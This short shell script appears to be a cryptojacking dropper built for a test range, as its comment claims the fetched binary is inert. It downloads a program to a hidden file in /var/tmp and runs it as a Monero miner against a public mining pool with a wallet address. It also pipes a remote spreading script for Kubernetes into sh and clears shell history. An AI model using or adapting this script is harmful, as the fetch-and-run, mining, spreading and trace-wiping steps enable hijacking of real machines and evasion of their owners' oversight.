#!/bin/sh
# Served inside the test range only. The program it fetches sleeps and ignores its arguments.
wget -q http://203.0.113.35/inert -O /var/tmp/.system
chmod +x /var/tmp/.system
cd /var/tmp
./.system -o pool.supportxmr.com:3333 --donate-level=1 --coin=monero -u 4AXvWrQNjcTkRz8SGkhQmY3ePbD6fLHVuJ2ZsEw9KxFdB5tMnCyUaR7qLg1NoPhYVX4iSjTrDkZm2WcEbH8uGf6yQv93KsA -p RangeKrams -B >/dev/null 2>&1 </dev/null &
(wget -q -O - http://203.0.113.35/chimaera/sh/spread_kube_loop.sh | sh) >/dev/null 2>&1 </dev/null &
history -c 2>/dev/null
exit 0
